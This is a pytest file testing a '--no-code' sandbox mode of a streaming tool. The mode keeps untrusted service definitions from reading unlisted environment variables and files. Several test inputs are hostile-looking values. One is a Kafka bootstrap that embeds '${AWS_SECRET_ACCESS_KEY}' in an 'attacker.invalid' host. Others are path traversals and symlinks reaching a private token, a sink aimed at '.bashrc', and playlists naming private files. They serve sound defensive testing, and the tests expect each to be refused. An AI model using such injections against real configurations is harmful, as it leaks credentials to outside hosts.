"""`--no-code`: services of strangers get no environment variables, and no files but those that are listed."""

from __future__ import annotations

import json
import shutil
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Literal

import pytest
import yaml
from pydantic import BaseModel

import streamer
import streamer.testing
from connectors.config import LocalPath, SourceConfig
from connectors.source import Source
from pipelines import Data
from pipelines.errors import DefinitionError
from streamer.definition.nocode import ENV_VARIABLE, FILES_VARIABLE, VARIABLE, NoCode
from streamer.definition.refusals import refused

DIGITS = Path(__file__).parents[3] / "examples" / "digits"
SECRET = "AKIAXXXXXXXXEXAMPLE0"
MEMORY = {"type": "memory", "topic": "t"}


@pytest.fixture(autouse=True)
def _here(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in (VARIABLE, ENV_VARIABLE, FILES_VARIABLE):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    (tmp_path / "theirs").mkdir()
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "token").write_text(SECRET)
    for folder in ("private", "theirs"):
        (tmp_path / folder / "lines.csv").write_text("machine,line\nm1,north\n")
    monkeypatch.chdir(tmp_path)


def written(tmp_path: Path, **fields: Any) -> Path:
    file = tmp_path / "theirs" / "mine.yaml"
    file.write_text(yaml.safe_dump({"source": MEMORY, "pipeline": [], "sink": MEMORY, **fields}))
    return file


@pytest.mark.slow
def test_a_secret_of_the_environment_is_sent_to_nobody(
    tmp_path: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    def topics_of(config: Any) -> dict[str, int]:
        asked.append(config.bootstrap)
        return {"t": 1}

    monkeypatch.setattr("connectors.kafka.browser.topics_of", topics_of)
    source = {"type": "kafka", "bootstrap": "${AWS_SECRET_ACCESS_KEY}.attacker.invalid:9092", "topics": "t"}
    file = written(tmp_path, source=source)
    ended = cli("check", file, "--no-code", "--connect")
    assert (ended.code, asked) == (2, [])
    assert "source.bootstrap: the environment variable AWS_SECRET_ACCESS_KEY is not listed" in ended.err
    assert "--env AWS_SECRET_ACCESS_KEY lists it" in ended.err
    assert SECRET not in ended.out + ended.err
    assert cli("run", file, "--no-code").code == 2
    assert cli("test", file, file, "--no-code").code == 2

    assert cli("check", file, "--no-code", "--connect", "--env", "AWS_SECRET_ACCESS_KEY").code == 0
    assert asked == [f"{SECRET}.attacker.invalid:9092"]


def test_a_default_stands_in_for_a_variable_that_is_not_set_and_for_no_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("BROKERS", raising=False)
    file = written(tmp_path, source={**MEMORY, "topic": "${BROKERS:-local}"})
    (source,) = streamer.load(file, no_code=NoCode()).sources
    assert getattr(source, "topic", None) == "local"
    monkeypatch.setenv("BROKERS", "mine")
    with pytest.raises(DefinitionError, match="BROKERS is not listed"):
        streamer.load(file, no_code=NoCode())
    with pytest.raises(DefinitionError, match="NOT_SET is not defined"):
        streamer.load(written(tmp_path, name="${NOT_SET}"), no_code=NoCode.of(env=["OTHER"]))


@pytest.mark.slow
@pytest.mark.parametrize("reference", ["${file:../private/token}", "${file:inside}", "${file:link}"])
def test_no_file_is_read_into_a_value_unless_it_is_listed(tmp_path: Path, cli: Any, reference: str) -> None:
    # The folder of the file may be the user's own, as when it was saved to the home directory.
    (tmp_path / "theirs" / "inside").write_text(SECRET)
    (tmp_path / "theirs" / "link").symlink_to(tmp_path / "private" / "token")
    file = written(tmp_path, name=reference)
    ended = cli("check", file, "--no-code")
    assert ended.code == 2
    assert "name: " in ended.err
    assert "is not listed, and --no-code (STREAMER_NO_CODE) allows no other file; --files " in ended.err
    assert SECRET not in ended.err
    listed = ("--files", tmp_path / "private", "--files", "theirs/inside")
    assert cli("check", file, "--no-code", *listed).code == 0


def test_a_folder_is_listed_with_what_is_in_it_and_nothing_beside_it(tmp_path: Path) -> None:
    (tmp_path / "private" / "deep").mkdir()
    (tmp_path / "private-too").mkdir()
    (tmp_path / "private" / "out").symlink_to(tmp_path / "private-too")
    listed = NoCode.of(files=["private"])
    for good in ("private", "private/token", "private/deep/x", "private/../private/x"):
        assert listed.refusal(tmp_path / good) is None
    for bad in ("private-too", "private/../theirs", "private/out/x", ".", "private/\0", "~nobody-of-this-name/x"):
        assert listed.refusal(tmp_path / bad) is not None


FILES: list[Any] = [
    pytest.param(
        {"source": {"type": "file", "path": "{}/in.txt", "format": "lines"}}, "source file: path", id="source"
    ),
    pytest.param(
        {"source": {"type": "file", "path": "{}/*.txt", "format": "lines"}}, "source file: path", id="pattern"
    ),
    pytest.param({"sink": {"type": "file", "path": "{}/.bashrc"}}, "sink file: path", id="sink"),
    pytest.param({"dead_letter": {"type": "file", "path": "{}/x"}}, "sink dead_letter: path", id="dead letter"),
    pytest.param({"profile": {"file": "{}/x.json"}}, "profile: file", id="profile"),
    pytest.param(
        {"sink": {"type": "kafka", "bootstrap": "h:1", "topic": "t", "client": {"ssl.key.location": "{}/k"}}},
        "sink kafka: client.ssl.key.location",
        id="key",
    ),
    pytest.param(
        {"sink": {"type": "kafka", "bootstrap": "h:1", "topic": "t", "client": {"sasl.kerberos.keytab": "{}/k"}}},
        "sink kafka: client.sasl.kerberos.keytab",
        id="keytab",
    ),
    pytest.param(
        {"source": {"type": "kafka", "topics": "t", "client": {"sasl.oauthbearer.assertion.file": "{}/k"}}},
        "source kafka: client.sasl.oauthbearer.assertion.file",
        id="assertion",
    ),
    pytest.param(
        {"pipeline": [{"@type": "VIDEO_CAPTURE", "filePath": "{}/x.mp4"}]}, "step 0:VIDEO_CAPTURE", id="video"
    ),
    pytest.param(
        {"pipeline": [{"@type": "LOOKUP", "path": "{}/lines.csv", "by": "machine", "take": "line"}]},
        "step 0:LOOKUP",
        id="table",
    ),
]


def filled(node: Any, place: Path) -> Any:
    """The fields with the folder put in."""
    return json.loads(json.dumps(node).replace("{}", str(place)))


@pytest.mark.slow
@pytest.mark.parametrize(("fields", "named"), FILES)
@pytest.mark.parametrize("folder", ["private", "theirs"])
def test_files_of_sources_and_sinks_have_to_be_listed_even_beside_the_service_file(
    fields: Mapping[str, Any], named: str, folder: str, tmp_path: Path, cli: Any
) -> None:
    file = written(tmp_path, **filled(fields, tmp_path / folder))
    ended = cli("run", file, "--no-code")
    assert ended.code == 2, ended
    assert f"service mine: {named}" in ended.err
    assert f"--files {tmp_path / folder}" in ended.err
    assert not list((tmp_path / folder).glob("*.bashrc"))

    ended = cli("check", file, "--no-code", "--connect", "--json")
    assert ended.code == 2
    (report,) = json.loads(ended.out)["services"]
    wrong = [one for one in report["findings"] if not one["ok"] and one["part"] != "hot path"]
    assert "is not listed" in wrong[0]["text"]

    listed = streamer.load(file, no_code=NoCode.of(files=[tmp_path / folder]))
    assert streamer.testing.run(listed, []).summary.reason == "ended"


@pytest.mark.slow
@pytest.mark.parametrize(
    "fields",
    [
        {"pipeline": [{"@type": "ONNX", "modelUri": "{}"}]},
        {"pipeline": [{"@type": "ONNX", "modelUri": "link.onnx"}]},
        {"pipeline": [{"@type": "ONNX", "modelUri": "file:{}"}]},
        {"pipeline": "../private/outer.yaml"},
        {"pipeline": [{"@type": "PIPELINE", "pipeline": "../private/outer.yaml"}]},
    ],
)
def test_models_and_definitions_of_others_are_not_used(fields: Mapping[str, Any], tmp_path: Path, cli: Any) -> None:
    model = shutil.copy(DIGITS / "digits.onnx", tmp_path / "private")
    (tmp_path / "private" / "outer.yaml").write_text(yaml.safe_dump({"steps": [{"@type": "LOGGING"}]}))
    (tmp_path / "theirs" / "link.onnx").symlink_to(model)
    file = written(tmp_path, **filled(fields, Path(model)))
    for command in ("run", "check"):
        ended = cli(command, file, "--no-code")
        assert ended.code == 2
        # Texts of `check` are wrapped at the width of a terminal.
        assert "is not listed" in " ".join((ended.out + ended.err).split())
    assert cli("check", file, "--no-code", "--files", "private").code == 0


def test_models_and_definitions_of_the_service_need_no_listing(tmp_path: Path, cli: Any) -> None:
    (tmp_path / "theirs" / "pipelines").mkdir()
    (tmp_path / "theirs" / "models").mkdir()
    shutil.copy(DIGITS / "digits.onnx", tmp_path / "theirs" / "models")
    pipeline = {"steps": [{"@type": "ONNX", "modelUri": "../models/digits.onnx"}]}
    (tmp_path / "theirs" / "pipelines" / "p.yaml").write_text(yaml.safe_dump(pipeline))
    ended = cli("check", written(tmp_path, pipeline="pipelines/p.yaml"), "--no-code", "--connect")
    assert ended.code == 0, ended
    ended = cli(
        "check", written(tmp_path, pipeline=[{"@type": "ONNX", "modelUri": "http://127.0.0.1:1/m"}]), "--no-code"
    )
    assert "it is fetched when the service starts" in ended.out


def test_a_camera_is_watched_only_if_it_is_listed(tmp_path: Path) -> None:
    file = written(tmp_path, pipeline=[{"@type": "FRAME_CAPTURE", "camera": 1}])
    with pytest.raises(DefinitionError, match="0:FRAME_CAPTURE: /dev/video1 is not listed"):
        streamer.load(file, no_code=NoCode()).run()
    listed = streamer.load(file, no_code=NoCode.of(files=["/dev/video1"]))
    assert streamer.testing.run(listed, []).summary.reason == "ended"


@pytest.mark.parametrize(
    "client",
    [
        {"security.protocol": "SSL", "ssl.ca.location": "/etc/ssl/certs/ca-certificates.crt"},
        {"sasl.kerberos.principal": "streamer/host.example.org@EXAMPLE.ORG"},
        {"sasl.oauthbearer.metadata.authentication.type": "none"},
    ],
)
def test_properties_that_take_nothing_of_the_machine_are_fine(client: dict[str, str], tmp_path: Path, cli: Any) -> None:
    file = written(tmp_path, source={"type": "kafka", "topics": "t", "client": client})
    ended = cli("check", file, "--no-code")
    assert ended.code == 0, ended


def test_a_client_does_not_log_in_as_the_machine(tmp_path: Path) -> None:
    client = {"sasl.oauthbearer.metadata.authentication.type": "azure_imds"}
    file = written(tmp_path, source={"type": "kafka", "topics": "t", "client": client})
    with pytest.raises(DefinitionError, match=r"client.sasl.oauthbearer.metadata.authentication.type logs in as this"):
        streamer.load(file, no_code=NoCode()).run()


@pytest.mark.slow
def test_a_step_that_is_named_like_a_nested_one_does_not_hide_it(tmp_path: Path, cli: Any) -> None:
    inner = {"steps": [{"@type": "FUNCTION", "function": "os:getcwd"}]}
    nested = {"@type": "PIPELINE", "name": "outer", "pipeline": inner}
    for steps in ([nested, {"@type": "LOGGING", "name": "outer/0:FUNCTION"}],) * 2:
        file = written(tmp_path, pipeline=steps)
        (one,) = refused(streamer.load(file, no_code=NoCode()))
        assert one.part == "step outer/0:FUNCTION"
        ended = cli("run", file, "--no-code")
        assert ended.code == 2
        assert "step outer/0:FUNCTION: function runs code" in ended.err
        steps.reverse()


def test_streamer_test_needs_no_listing_of_the_files_of_source_and_sink(tmp_path: Path, cli: Any) -> None:
    source, sink = {"type": "file", "path": "in.jsonl", "format": "jsonl"}, {"type": "file", "path": "out.pb"}
    file = written(tmp_path, source=source, sink=sink)
    (tmp_path / "theirs" / "case.json").write_text('{"input": {"x": 1}, "expect": {"x": 1}}')
    ended = cli("test", file, tmp_path / "theirs" / "case.json", "--no-code")
    assert ended.code == 0, ended
    assert not (tmp_path / "theirs" / "out.pb").exists()


def test_the_environment_says_the_same_and_lists_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = written(tmp_path, name="${AWS_SECRET_ACCESS_KEY}", sink={"type": "file", "path": "out.pb"})
    monkeypatch.setenv(VARIABLE, "1")
    with pytest.raises(DefinitionError, match="AWS_SECRET_ACCESS_KEY is not listed"):
        streamer.load(file)
    monkeypatch.setenv(ENV_VARIABLE, "OTHER, AWS_SECRET_ACCESS_KEY")
    with pytest.raises(DefinitionError, match=r"out\.pb is not listed"):
        streamer.load(file).run()
    monkeypatch.setenv(FILES_VARIABLE, f"/nowhere:{tmp_path}/theirs")
    source = {"type": "file", "path": "in.jsonl", "format": "jsonl"}
    (tmp_path / "theirs" / "in.jsonl").write_text('{"x": 1}\n')
    written(tmp_path, sink={"type": "file", "path": "out.pb"}, source=source)
    assert streamer.load(file).run().ok == 1


def test_variables_given_in_python_need_no_listing(tmp_path: Path) -> None:
    file = written(tmp_path, name="${AWS_SECRET_ACCESS_KEY}")
    assert streamer.load(file, environment={"AWS_SECRET_ACCESS_KEY": "x"}, no_code=NoCode()).name == "x"
    assert [one.name for one in streamer.load_all(file, environment={"AWS_SECRET_ACCESS_KEY": "y"})] == ["y"]


def test_variables_of_a_konduit_configuration_have_to_be_listed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "theirs" / "k.json"
    file.write_text(json.dumps({"protocol": "KAFKA", "pipeline": {"steps": []}}))
    with pytest.warns(UserWarning, match="Konduit"):
        streamer.load(file, no_code=NoCode())
    monkeypatch.setenv("KONDUIT_CONSUMER_TOPIC_NAME", "mine")
    with pytest.raises(DefinitionError, match="KONDUIT_CONSUMER_TOPIC_NAME is not listed"):
        streamer.load(file, no_code=NoCode())


@pytest.mark.slow
@pytest.mark.parametrize("options", [("--env", "X"), ("--files", "x")])
def test_a_list_without_the_switch_is_wrong_use(options: tuple[str, str], tmp_path: Path, cli: Any) -> None:
    for command in ("run", "check"):
        ended = cli(command, written(tmp_path), *options)
        assert ended.code == 2
        assert f"{options[0]} lists exceptions of --no-code; add --no-code" in ended.err
    assert "takes the name of a variable" in cli("check", written(tmp_path), "--no-code", "--env", "A=B").err


@pytest.mark.slow
def test_a_profile_that_is_asked_for_on_the_command_line_is_allowed(tmp_path: Path, cli: Any) -> None:
    (tmp_path / "theirs" / "in.jsonl").write_text('{"x": 1}\n')
    source = {"type": "file", "path": "in.jsonl", "format": "jsonl"}
    file = written(tmp_path, source=source, profile={"file": "/nowhere/theirs.json"})
    options = ("--no-code", "--files", tmp_path / "theirs" / "in.jsonl")
    assert cli("run", file, *options).code == 2
    assert cli("run", file, *options, "--profile", tmp_path / "mine.json").code == 0
    assert (tmp_path / "mine.json").exists()


class Deep(BaseModel):
    """A part of a plug-in's configuration."""

    keys: dict[str, LocalPath] = {}
    places: tuple[LocalPath, ...] = ()


class PlugInConfig(SourceConfig):
    """A source of a plug-in that names files in its own ways."""

    type: Literal["plug"] = "plug"
    deep: Deep = Deep()
    one: LocalPath | None = None

    def build(self) -> Source:
        raise NotImplementedError


def test_paths_of_a_plug_in_are_found_wherever_they_stand() -> None:
    fields = {"one": "a", "deep": {"keys": {"x": "b"}, "places": ["c", "d"]}}
    config = PlugInConfig.model_validate(fields, context={"base": Path("/base")})
    found = {key: str(path) for key, path in config.file_keys.items()}
    assert found == {
        "deep.keys.x": "/base/b",
        "deep.places.0": "/base/c",
        "deep.places.1": "/base/d",
        "one": "/base/a",
    }
    assert PlugInConfig().file_keys == {}


def test_a_service_without_code_may_be_tried_with_records(tmp_path: Path) -> None:
    service = streamer.load(written(tmp_path), no_code=NoCode())
    assert streamer.testing.run(service, [Data({"x": 1})]).results == [Data({"x": 1})]


PLAYLISTS = {
    "film.m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{private}\n#EXT-X-ENDLIST\n",
    "film.mp4": "ffconcat version 1.0\nfile '{private}'\n",
    "film.mkv": "\ufeff\n<?xml version='1.0'?>\n<MPD><Period><BaseURL>{private}</BaseURL></Period></MPD>\n",
}


@pytest.mark.parametrize("name", PLAYLISTS)
def test_a_listed_film_that_is_a_playlist_of_others_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "theirs" / name).write_text(PLAYLISTS[name].replace("{private}", str(tmp_path / "private" / "f.ts")))
    (tmp_path / "theirs" / "real.mp4").write_bytes(b"\0\0\0\x20ftypisom")
    cameras = {"film": {"url": name}, "real": {"url": "real.mp4"}, "none": {"url": "none.mp4"}}
    file = written(tmp_path, source={"type": "camera", "cameras": cameras})
    listed = NoCode.of(files=["theirs"])
    (found,) = refused(streamer.load(file, no_code=listed))
    assert found.why.startswith("cameras.film.url is a playlist, which may name any file of this machine")
